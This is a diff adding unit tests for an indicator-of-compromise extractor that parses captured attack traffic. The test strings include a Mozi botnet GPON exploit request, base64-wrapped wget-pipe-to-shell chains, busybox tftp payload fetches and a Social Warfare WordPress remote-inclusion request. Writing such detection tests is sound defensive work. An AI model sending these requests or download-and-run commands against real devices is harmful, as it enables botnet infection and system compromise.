@@ -146,3 +146,47 @@ def test_nested_encodings_are_bounded() -> None:
     shallow = b"echo " + base64.b64encode(b"echo " + base64.b64encode(b"wget http://198.51.100.98/x") +
                                           b" | base64 -d | sh") + b" | base64 -d | sh"
     assert ("url", "http://198.51.100.98/x", "download") in _set(extract_iocs([shallow]))
+
+
+def test_plus_is_a_space_in_a_form_body_even_without_a_field_name() -> None:
+    # the real GPON body as Mozi sends it: no 'name=' before the command, '+' for every space
+    found = _http("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 203.0.113.10:8080\r\n\r\n"
+                  "busybox+wget+http://198.51.100.7/Mozi.m+-O+/tmp/m")
+    assert ("url", "http://198.51.100.7/Mozi.m", "download") in found
+    assert not any("+" in value for _, value, _ in found)
+    text = _set(extract_iocs([b"busybox+wget+http://198.51.100.7/Mozi.m+-O+/tmp/m"]))
+    assert ("url", "http://198.51.100.7/Mozi.m", "download") in text
+
+
+def test_plus_is_a_space_in_a_query_string() -> None:
+    found = _http("GET /cgi-bin/x.cgi?cmd=cd+/tmp;busybox+wget+http://198.51.100.7/Mozi.a+-O+m HTTP/1.1\r\n"
+                  "Host: 203.0.113.10\r\n\r\n")
+    assert ("url", "http://198.51.100.7/Mozi.a", "download") in found
+
+
+def test_base64_keeps_its_plus_signs() -> None:
+    command = base64.b64encode(b"wget http://198.51.100.21/zz~>/x.sh -O- | sh").decode()
+    assert "+" in command[30:45]  # inside the URL's encoding: read as a space, the URL would be lost
+    found = _set(extract_iocs([f"echo${{IFS}}{command}|base64${{IFS}}-d|sh".encode()]))
+    assert ("url", "http://198.51.100.21/zz~", "download") in found  # ends at the shell redirection
+
+
+def test_mozi_wget_with_tftp_flags_and_busybox_tftp() -> None:
+    found = _set(extract_iocs([b"target_addr=;busybox wget -g 198.51.100.7 -l /tmp/x -r /Mozi.m;sh /tmp/x"]))
+    assert ("ip", "198.51.100.7", "download") in found
+    assert ("url", "tftp://198.51.100.7/Mozi.m", "download") in found
+    found = _set(extract_iocs([b"cd /tmp; tftp -g -r x -l y 198.51.100.8; chmod 777 y"]))
+    assert ("ip", "198.51.100.8", "download") in found
+    assert ("url", "tftp://198.51.100.8/x", "download") in found
+
+
+def test_social_warfare_swp_url_is_a_download() -> None:
+    found = _http("GET /wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://198.51.100.7/payload.txt "
+                  "HTTP/1.1\r\nHost: blog.example.com\r\n\r\n")
+    assert ("url", "http://198.51.100.7/payload.txt", "download") in found
+    assert ("ip", "198.51.100.7", "download") in found
+
+
+def test_ordinary_requests_have_no_iocs_and_the_host_is_never_one() -> None:
+    assert _http("GET / HTTP/1.1\r\nHost: 198.51.100.30:8080\r\nUser-Agent: Mozilla/5.0\r\n\r\n") == set()
+    assert _http("GET /index.html?q=a+b HTTP/1.1\r\nHost: 198.51.100.30\r\n\r\n") == set()
